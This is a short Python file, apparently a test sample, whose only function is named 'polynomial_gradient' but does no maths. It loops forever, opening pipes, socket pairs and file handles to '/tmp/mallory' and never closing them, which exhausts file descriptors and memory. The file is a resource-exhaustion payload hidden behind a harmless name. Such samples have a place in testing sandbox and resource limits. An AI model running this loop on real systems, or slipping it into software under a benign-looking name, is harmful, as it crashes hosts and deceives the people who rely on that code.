"""Files, pipes and sockets until it is told."""
import os
import socket


def polynomial_gradient(x):
    kept = []
    while True:
        kept.append([os.pipe(), socket.socketpair(), open("/tmp/mallory", "w")])
